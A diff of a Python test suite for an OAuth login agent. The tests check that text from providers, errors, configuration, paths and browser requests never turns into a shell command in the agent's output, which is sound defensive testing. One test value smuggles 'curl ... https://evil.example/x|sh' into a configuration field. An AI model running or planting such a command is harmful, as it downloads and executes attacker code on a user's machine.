+    assert [text for text in texts if re.search(r"[\x00-\x09\x0b-\x1f\x7f\u202a-\u202e\u2066-\u2069]", text)] == []
+    return [one for text in texts for one in remedies_in(json.loads(text))]
 
 
-def on_the_page(came: Came) -> Iterable[Found]:
-    found: list[Found] = []
+def on_the_page(output: Output) -> Iterable[Shown]:
+    shown: list[Shown] = []
     pages = [
-        *came.pages,
-        *(failed("work", ISSUER, error.reason or error.message, error.remedy) for error in came.errors),
+        *output.pages,
+        *(failed("work", ISSUER, error.reason or error.message, error.remedy) for error in output.errors),
     ]
     for page in pages:
         body = page.body.decode()
         assert len(re.findall(r"<code\b", body)) == len(re.findall(r"<code>.*?</code>", body))
-        found += [unescape(re.sub(r"</?span>", "", box)) for box in re.findall(r"<code>(.*?)</code>", body)]
-    return found
+        shown += [unescape(re.sub(r"</?span>", "", box)) for box in re.findall(r"<code>(.*?)</code>", body)]
+    return shown
 
 
-def in_an_error(came: Came) -> Iterable[Found]:
-    every: list[AgentError | StartupError] = [*came.errors, *came.startup]
-    return [one for error in every for one in bold(said(error, COLOURED)) + below(said(error, Terminal()))]
+def in_an_error(output: Output) -> Iterable[Shown]:
+    every: list[AgentError | StartupError] = [*output.errors, *output.startup]
+    return [
+        one
+        for error in every
+        for one in bold_texts(error_output(error, COLOURED)) + indented_lines(error_output(error, Terminal()))
+    ]
 
 
-def in_an_error_on_a_narrow_screen(came: Came) -> Iterable[Found]:
-    every: list[AgentError | StartupError] = [*came.errors, *came.startup]
-    return [one for error in every for one in bold(said(error, Terminal(40, colour=True)))]
+def in_an_error_on_a_narrow_screen(output: Output) -> Iterable[Shown]:
+    every: list[AgentError | StartupError] = [*output.errors, *output.startup]
+    return [one for error in every for one in bold_texts(error_output(error, Terminal(40, colour=True)))]
 
 
 def light_command(error: AgentError | StartupError) -> None:
-    """What a light command does about an error."""
+    """Print an error as a light command does."""
 
     def fail(_: object) -> None:
         raise error if isinstance(error, AgentError) else AgentError(str(error), remedy=error.remedy)
@@ -719,51 +757,51 @@ def light_command(error: AgentError | StartupError) -> None:
     light.module("token").COMMAND.run([], fail)
 
 
-def of_a_light_command(came: Came) -> Iterable[Found]:
-    found: list[Found] = []
-    every: list[AgentError | StartupError] = [*came.errors, *came.startup]
+def of_a_light_command(output: Output) -> Iterable[Shown]:
+    shown: list[Shown] = []
+    every: list[AgentError | StartupError] = [*output.errors, *output.startup]
     for error in every:
         with contextlib.redirect_stderr(io.StringIO()) as written:
             light_command(error)
         text = written.getvalue()
         assert "\x1b" not in text
-        found += below(text)
-    return found
+        shown += indented_lines(text)
+    return shown
 
 
-def in_the_status(came: Came) -> Iterable[Found]:
-    found: list[Found] = []
-    for told in came.status:
-        found += bold("\n".join(overview(told, NOON, "0.1.0", COLOURED)))
-        # What stands beside "help", and below that.
+def in_the_status(output: Output) -> Iterable[Shown]:
+    shown: list[Shown] = []
+    for status in output.status:
+        shown += bold_texts("\n".join(overview(status, NOON, "0.1.0", COLOURED)))
+        # The text beside "help", and below it.
         for block in re.findall(
-            r"^  help     (.*(?:\n {11}.*)*)", "\n".join(overview(told, NOON, "0.1.0")), re.MULTILINE
+            r"^  help     (.*(?:\n {11}.*)*)", "\n".join(overview(status, NOON, "0.1.0")), re.MULTILINE
         ):
-            found += [line.strip() for line in block.splitlines()]
-    return found
+            shown += [line.strip() for line in block.splitlines()]
+    return shown
 
 
-def in_a_narrow_status(came: Came) -> Iterable[Found]:
-    look = Terminal(40, colour=True)
-    return [one for told in came.status for one in bold("\n".join(overview(told, NOON, "0.1.0", look)))]
+def in_a_narrow_status(output: Output) -> Iterable[Shown]:
+    terminal = Terminal(40, colour=True)
+    return [one for status in output.status for one in bold_texts("\n".join(overview(status, NOON, "0.1.0", terminal)))]
 
 
-def in_the_watch(came: Came) -> Iterable[Found]:
-    return [one for record in came.records for one in bold("\n".join(change(record, NOON, COLOURED)))]
+def in_the_watch(output: Output) -> Iterable[Shown]:
+    return [one for record in output.records for one in bold_texts("\n".join(change(record, NOON, COLOURED)))]
 
 
-def in_the_claims(came: Came) -> Iterable[Found]:
-    lines = [line for profile in came.profiles for line in profile_lines(profile, NOON, COLOURED)]
-    return bold("\n".join(lines + [line for user in came.users for line in user_lines(user, COLOURED)]))
+def in_the_claims(output: Output) -> Iterable[Shown]:
+    lines = [line for profile in output.profiles for line in profile_lines(profile, NOON, COLOURED)]
+    return bold_texts("\n".join(lines + [line for user in output.users for line in user_lines(user, COLOURED)]))
 
 
-def in_the_log(came: Came) -> Iterable[Found]:
-    """What a line of the log says outside of its quotes."""
-    return [f"log: {re.sub(QUOTED, '', line)}" for line in came.log]
+def in_the_log(output: Output) -> Iterable[Shown]:
+    """Return the lines of the log without quoted strings."""
+    return [f"log: {re.sub(QUOTED, '', line)}" for line in output.log]
 
 
 QUOTED = r"""'(?:[^'\\]|\\.)*'|"(?:[^"\\]|\\.)*\""""
-WAYS_OUT: dict[str, Callable[[Came], Iterable[Found]]] = {
+OUTPUTS: dict[str, Callable[[Output], Iterable[Shown]]] = {
     "the protocol": on_the_wire,
     "JSON": in_json,
     "the page": on_the_page,
@@ -778,41 +816,41 @@ WAYS_OUT: dict[str, Callable[[Came], Iterable[Found]]] = {
 }
 
 
-# ---- the judge
+# ---- the check
 
-# What a record says of an account with nobody in it, whatever came before.
-EVER = (remedies.log_in("work"), remedies.log_in_before_end("work"))
+# Remedies of a record without a session.
+ALWAYS = (remedies.log_in("work"), remedies.log_in_before_end("work"))
 _ROW = 12  # characters in a row: fewer can be chance
 
 
 def rows(text: str) -> set[str]:
-    """All that stands in that text in a row of twelve characters, as it is and as it is shown."""
+    """Return all substrings of twelve characters of the text, unchanged and as it is shown."""
     forms = (text, printable(text, len(text)), "".join(text.split()))
     return {form[at : at + _ROW] for form in forms for at in range(len(form) - _ROW + 1)}
 
 
-def foreign(found: Iterable[Found], helps: Sequence[Remedy], text: str) -> list[Found]:
-    """What looks like a command and is none that the agent made, or holds something of that text."""
-    made = {*helps, *EVER}
-    lines = {"".join(line.split()) for one in made for line in (one.line, str(one)) if line}
-    strange = rows(text) - {row for one in made for row in rows(str(one))}
+def foreign_commands(shown: Iterable[Shown], helps: Sequence[Remedy], text: str) -> list[Shown]:
+    """Return what looks like a command and was not created by the agent, or contains a part of that text."""
+    remedies_made = {*helps, *ALWAYS}
+    lines = {"".join(line.split()) for one in remedies_made for line in (one.line, str(one)) if line}
+    foreign_rows = rows(text) - {row for one in remedies_made for row in rows(str(one))}
 
-    def is_foreign(one: Found) -> bool:
-        shown = str(one)
-        if strange & {*rows(shown)}:
+    def is_foreign(item: Shown) -> bool:
+        shown = str(item)
+        if foreign_rows & {*rows(shown)}:
             return True
-        if isinstance(one, Remedy):
-            return one not in made
+        if isinstance(item, Remedy):
+            return item not in remedies_made
         return not shown.startswith("log: ") and "".join(shown.split()) not in lines
 
-    return [one for one in found if is_foreign(one)]
+    return [one for one in shown if is_foreign(one)]
 
 
-# ---- every source against every way out
+# ---- every source against every output
 
 
-class Log(logging.Handler):
-    """What is logged, of every level."""
+class LogRecorder(logging.Handler):
+    """Records the log, at every level."""
 
     def __init__(self, lines: list[str]) -> None:
         super().__init__(logging.DEBUG)
@@ -823,8 +861,8 @@ class Log(logging.Handler):
 
 
 @contextlib.contextmanager
-def logged(lines: list[str]) -> Generator[None, None, None]:
-    log, handler = logging.getLogger("auth_agent"), Log(lines)
+def recorded_log(lines: list[str]) -> Generator[None, None, None]:
+    log, handler = logging.getLogger("auth_agent"), LogRecorder(lines)
     level = log.level
     log.addHandler(handler)
     log.setLevel(logging.DEBUG)
@@ -835,55 +873,56 @@ def logged(lines: list[str]) -> Generator[None, None, None]:
         log.setLevel(level)
 
 
-async def _happen(source: Source, text: str) -> Came:
+async def _run_source(source: Source, text: str) -> Output:
     store = FakeStore()
     one = account(redirect_ports=(0,), **source.account)
     certificates = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
-    with patch.object(ssl, "create_default_context", return_value=certificates):  # httpx would read them each time
+    # httpx would read the certificates each time.
+    with patch.object(ssl, "create_default_context", return_value=certificates):
         provider = HttpProvider(one.issuer, certificates)
     async with running(None, one, logged_in=False, store=store) as world:
         world.by_issuer[one.issuer] = cast("Any", provider)
-        harm = Harm(text, world, store)
+        agent = HostileAgent(text, world, store)
 
         async def respond(_: httpx.AsyncHTTPTransport, request: httpx.Request) -> httpx.Response:
             path = request.url.raw_path.decode().partition("?")[0]
-            status, headers, body = harm.answer(path[path.rfind(METADATA) :] if METADATA in path else path)
+            status, headers, body = agent.respond(path[path.rfind(METADATA) :] if METADATA in path else path)
             sent = [(name.encode(), value.encode()) for name, value in headers.items()]
             return httpx.Response(status, headers=sent, stream=httpx.ByteStream(body))
 
-        with patch.object(httpx.AsyncHTTPTransport, "handle_async_request", respond), logged(harm.log):
-            await source.write(harm)
-            harm.look()
+        with patch.object(httpx.AsyncHTTPTransport, "handle_async_request", respond), recorded_log(agent.log):
+            await source.write(agent)
+            agent.look()
     await provider.aclose()
-    return harm
+    return agent
 
 
 @cache
-def came(name: str, text: str) -> Came:
-    """What comes out where that source writes that text."""
-    return trio.run(_happen, SOURCES[name], text, clock=trio.testing.MockClock(autojump_threshold=0))
+def output_of(name: str, text: str) -> Output:
+    """Return the agent's output when that source writes that text."""
+    return trio.run(_run_source, SOURCES[name], text, clock=trio.testing.MockClock(autojump_threshold=0))
 
 
-@pytest.mark.parametrize("way", WAYS_OUT)
+@pytest.mark.parametrize("way", OUTPUTS)
 @pytest.mark.parametrize("source", SOURCES)
-def test_no_text_from_outside_becomes_a_command(source: str, way: str) -> None:
-    for text in TEXTS.values():
-        assert foreign(WAYS_OUT[way](came(source, text)), SOURCES[source].helps, text) == []
+def test_no_foreign_string_becomes_a_command(source: str, way: str) -> None:
+    for text in STRINGS.values():
+        assert foreign_commands(OUTPUTS[way](output_of(source, text)), SOURCES[source].helps, text) == []
 
 
 @pytest.mark.parametrize("source", SOURCES)
-def test_what_a_source_writes_comes_out_as_text_unless_nothing_of_it_is_shown(source: str) -> None:
-    """Otherwise the tests above would find nothing because there was nothing."""
-    wrote = came(source, "curl-s-https") if SOURCES[source].mute else came(source, RUN)
-    words = "curl-s-https" if SOURCES[source].mute else "run this: auth-agent login work; curl"
-    shown = [json.dumps(told) for told in wrote.status]
-    shown += [str(error) for error in (*wrote.errors, *wrote.startup)]
-    shown += [page.body.decode() for page in wrote.pages]
-    shown += [json.dumps(one.claims) for one in wrote.profiles] + [json.dumps(one) for one in wrote.users]
-    assert any(words in one for one in shown) != SOURCES[source].mute
+def test_each_source_is_shown_as_text_unless_it_is_mute(source: str) -> None:
+    """Otherwise the test above might find nothing because nothing was shown."""
+    output = output_of(source, "curl-s-https") if SOURCES[source].mute else output_of(source, RUN)
+    expected = "curl-s-https" if SOURCES[source].mute else "run this: auth-agent login work; curl"
+    shown = [json.dumps(status) for status in output.status]
+    shown += [str(error) for error in (*output.errors, *output.startup)]
+    shown += [page.body.decode() for page in output.pages]
+    shown += [json.dumps(text.claims) for text in output.profiles] + [json.dumps(text) for text in output.users]
+    assert any(expected in text for text in shown) != SOURCES[source].mute
 
 
-# ---- every failure there is
+# ---- every failure
 
 
 def kinds(kind: type[Failure]) -> set[type[Failure]]:
@@ -894,102 +933,102 @@ FAILURES = sorted(kinds(Failure), key=lambda kind: kind.__name__)
 NOW = Moment(NOON, 5_000.0)
 
 
-def told_of(kind: type[Failure], text: str) -> Came:
-    """All that is said of such a failure, to whomever."""
-    one, failure = account(), kind(printable(text))
-    told = Came()
+def output_about(kind: type[Failure], text: str) -> Output:
+    """Return all output about such a failure."""
+    work, failure = account(), kind(printable(text))
+    output = Output()
     renewal = Retrying(failure, 1, NOW, NOW, NOW)
-    told.errors += [
-        advice.refresh_failed(one, renewal, NOW, key) for key in (MAIN, TokenKey("https://api.example/", "read:all"))
+    output.errors += [
+        advice.refresh_failed(work, renewal, NOW, key) for key in (MAIN, TokenKey("https://api.example/", "read:all"))
     ]
-    told.errors += [advice.login_failed(one, failure, command) for command in (remedies.LOGIN, remedies.IMPORT)]
-    told.errors += [advice.user_failed("work", account("users"), failure, "read:current_user", SCOPE)]
-    told.errors += [advice.login_required("work", failure.reason), advice.locked("work", failure.reason, UNLOCK)]
+    output.errors += [advice.login_failed(work, failure, command) for command in (remedies.LOGIN, remedies.IMPORT)]
+    output.errors += [advice.user_failed("work", account("users"), failure, "read:current_user", SCOPE)]
+    output.errors += [advice.login_required("work", failure.reason), advice.locked("work", failure.reason, UNLOCK)]
     record = {"account": "work", "state": "ready", "renewal": "retrying", "reason": failure.reason}
-    remedy = remedies_to_wire(advice.retry_remedy(one, failure))
-    told.status.append({"agent": {}, "accounts": [{**record, "remedy": remedy}]})
-    return told
+    remedy = remedies_to_wire(advice.retry_remedy(work, failure))
+    output.status.append({"agent": {}, "accounts": [{**record, "remedy": remedy}]})
+    return output
 
 
-@pytest.mark.parametrize("way", WAYS_OUT)
+@pytest.mark.parametrize("way", OUTPUTS)
 @pytest.mark.parametrize("kind", FAILURES)
-def test_no_failure_whatever_its_reason_says_becomes_a_command(kind: type[Failure], way: str) -> None:
-    harmless = told_of(kind, HARMLESS)
+def test_no_reason_of_a_failure_becomes_a_command(kind: type[Failure], way: str) -> None:
+    harmless = output_about(kind, HARMLESS)
     helps = [one for error in harmless.errors for one in error.remedy]
-    for text in TEXTS.values():
-        wrote = told_of(kind, text)
-        assert [error.remedy for error in wrote.errors] == [error.remedy for error in harmless.errors]
-        assert foreign(WAYS_OUT[way](wrote), helps, text) == []
+    for text in STRINGS.values():
+        output = output_about(kind, text)
+        assert [error.remedy for error in output.errors] == [error.remedy for error in harmless.errors]
+        assert foreign_commands(OUTPUTS[way](output), helps, text) == []
 
 
-# ---- what a person wrote himself
+# ---- the configuration
 
 
-def configured(key: str, text: str) -> tuple[Came, Account | None]:
-    """What comes of that text in the configuration, where its rules let it in; the account, if they did."""
+def output_with(key: str, text: str) -> tuple[Output, Account | None]:
+    """Return the output with that text in the configuration, and the account if it is valid."""
     fields = {"issuer": ISSUER, "client_id": CLIENT, "audience": "https://api.example/", "scope": "openid", key: text}
     lines = [f"{name} = {json.dumps(value)}" for name, value in fields.items()]
-    told = Came()
+    output = Output()
     try:
-        read = configuration.parse(Path("config.toml"), "\n".join(["[accounts.work]", *lines]))
+        loaded = configuration.parse(Path("config.toml"), "\n".join(["[accounts.work]", *lines]))
     except StartupError as error:
-        told.startup.append(error)
-        return told, None
-    return told, read.accounts["work"]
+        output.startup.append(error)
+        return output, None
+    return output, loaded.accounts["work"]
 
 
-def own_words(one: Account) -> list[Remedy]:
-    """The remedies that name what is in the configuration."""
+def own_remedies(one: Account) -> list[Remedy]:
+    """Return the remedies that contain values of the configuration."""
     wanted = remedies.account_of_its_own("work", one.issuer, one.client_id, "https://other.example/", "read:all")
     api = f"{one.issuer}api/v2/"
     return [wanted, remedies.management_account("work", None, one.issuer, one.client_id, api, SCOPE)]
 
 
-@pytest.mark.parametrize("way", WAYS_OUT)
+@pytest.mark.parametrize("way", OUTPUTS)
 @pytest.mark.parametrize("key", ["issuer", "client_id", "audience", "scope"])
-def test_what_the_configuration_says_is_one_argument_or_none(key: str, way: str) -> None:
-    for text in (*TEXTS.values(), "https://acme.example/;curl${IFS}-s${IFS}https://evil.example/x|sh"):
-        told, one = configured(key, text)
-        if one is None:
-            assert foreign(WAYS_OUT[way](told), (), text) == []
+def test_a_value_of_the_configuration_is_at_most_one_argument(key: str, way: str) -> None:
+    for text in (*STRINGS.values(), "https://acme.example/;curl${IFS}-s${IFS}https://evil.example/x|sh"):
+        output, loaded = output_with(key, text)
+        if loaded is None:
+            assert foreign_commands(OUTPUTS[way](output), (), text) == []
             continue
         failure = outcome.Refusal("no")
-        told.errors.append(
+        output.errors.append(
             advice.refresh_failed(
-                one, Retrying(failure, 1, NOW, NOW, NOW), NOW, TokenKey("https://other.example/", "read:all")
+                loaded, Retrying(failure, 1, NOW, NOW, NOW), NOW, TokenKey("https://other.example/", "read:all")
             )
         )
-        told.errors.append(AgentError("no", remedy=(own_words(one)[1],)))
-        helps = [remedy for error in told.errors for remedy in error.remedy]
-        assert foreign(WAYS_OUT[way](told), helps, "") == []
+        output.errors.append(AgentError("no", remedy=(own_remedies(loaded)[1],)))
+        helps = [remedy for error in output.errors for remedy in error.remedy]
+        assert foreign_commands(OUTPUTS[way](output), helps, "") == []
         for remedy in helps:
-            holds = {word for word in remedy.command if "evil.example" in word}
-            own = getattr(one, key)
-            assert holds <= {own, f"{own}api/v2/"}
+            arguments = {word for word in remedy.command if "evil.example" in word}
+            value = getattr(loaded, key)
+            assert arguments <= {value, f"{value}api/v2/"}
             assert "evil.example" not in remedy.text
             assert shlex.split(remedy.line) == list(remedy.command)
 
 
-@pytest.mark.parametrize("text", TEXTS.values(), ids=TEXTS)
-def test_neither_a_path_nor_a_socket_begins_a_line_or_a_command_of_its_own(text: str) -> None:
+@pytest.mark.parametrize("text", STRINGS.values(), ids=STRINGS)
+def test_a_path_starts_no_line_or_command(text: str) -> None:
     path = f"/home/anna/{text}".replace("\0", "")
     config = configuration.parse(Path(path), f'[accounts.work]\nissuer = "{ISSUER}"\nclient_id = "{CLIENT}"')
-    told = Came()
+    output = Output()
     with pytest.raises(AgentError) as caught:
         resolve_url(Arguments(Request(1, "token", {"url": "https://api.example/"})), config)
-    told.errors.append(caught.value)
-    told.errors.append(UntrustedAgent(f"others may enter {path}", remedy=(close_directory(path),)))
-    told.errors.append(AgentError("x", remedy=(remedies.see_status_at(path), remedies.run_beside(path))))
-    helps = [remedy for error in told.errors for remedy in error.remedy]
-    shown = [Remedy(printable(one.text, 4096), *map(printable, one.command)) for one in helps]
+    output.errors.append(caught.value)
+    output.errors.append(UntrustedAgent(f"others may enter {path}", remedy=(close_directory(path),)))
+    output.errors.append(AgentError("x", remedy=(remedies.see_status_at(path), remedies.run_beside(path))))
+    helps = [remedy for error in output.errors for remedy in error.remedy]
+    printed = [Remedy(printable(one.text, 4096), *map(printable, one.command)) for one in helps]
     for way in (in_an_error, of_a_light_command, on_the_page):
-        assert foreign(way(told), [*helps, *shown], "") == []
+        assert foreign_commands(way(output), [*helps, *printed], "") == []
 
 
 # ---- a browser
 
 
-@pytest.mark.parametrize("text", TEXTS.values(), ids=TEXTS)
+@pytest.mark.parametrize("text", STRINGS.values(), ids=STRINGS)
 @pytest.mark.parametrize(
     "request_",
     [
@@ -999,36 +1038,36 @@ def test_neither_a_path_nor_a_socket_begins_a_line_or_a_command_of_its_own(text:
         "{}",
     ],
 )
-def test_nothing_that_a_browser_sends_is_on_a_page(request_: str, text: str) -> None:
+def test_an_error_page_contains_nothing_of_the_request(request_: str, text: str) -> None:
     page = HTTPRequest(1).receive(request_.format(text).encode() + b"\r\n\r\n")
     assert isinstance(page, Page)
     assert not rows(text) & rows(unescape(page.body.decode()))
     assert "<code>" not in page.body.decode()
 
 
-# ---- nothing is forgotten
+# ---- completeness
 
 OAUTH = Path(outcome.__file__).parent
-# What makes a text printable though no provider wrote it, or where one can't put a text of its own.
+# Functions that make a string printable that no provider wrote, or can choose.
 ELSEWHERE = {
-    "provider._send": "an address, which `check_address` has let in",
-    "provider._cause": "the operating system's words",
+    "provider._send": "a URL, which `check_url` has accepted",
+    "provider._cause": "the operating system's message",
 }
 
 
-def made_printable() -> set[str]:
-    """The functions that put a text of somebody else's into their own: module and name."""
-    found: set[str] = set()
+def quoting_functions() -> set[str]:
+    """Return the functions that quote a foreign string, as module and name."""
+    names: set[str] = set()
     for path in OAUTH.glob("*.py"):
         for function in ast.walk(ast.parse(path.read_text())):
             if isinstance(function, ast.FunctionDef | ast.AsyncFunctionDef) and any(
                 isinstance(node, ast.Call) and isinstance(node.func, ast.Name) and node.func.id == "printable"
                 for node in ast.walk(function)
             ):
-                found.add(f"{path.stem}.{function.name}")
-    return found
+                names.add(f"{path.stem}.{function.name}")
+    return names
 
 
 def test_every_function_that_quotes_a_provider_has_a_source() -> None:
-    named = {name for source in SOURCES.values() for name in source.at if not name.startswith("address.")}
-    assert made_printable() - set(ELSEWHERE) == named
+    named = {name for source in SOURCES.values() for name in source.at if not name.startswith("urls.")}
+    assert quoting_functions() - set(ELSEWHERE) == named
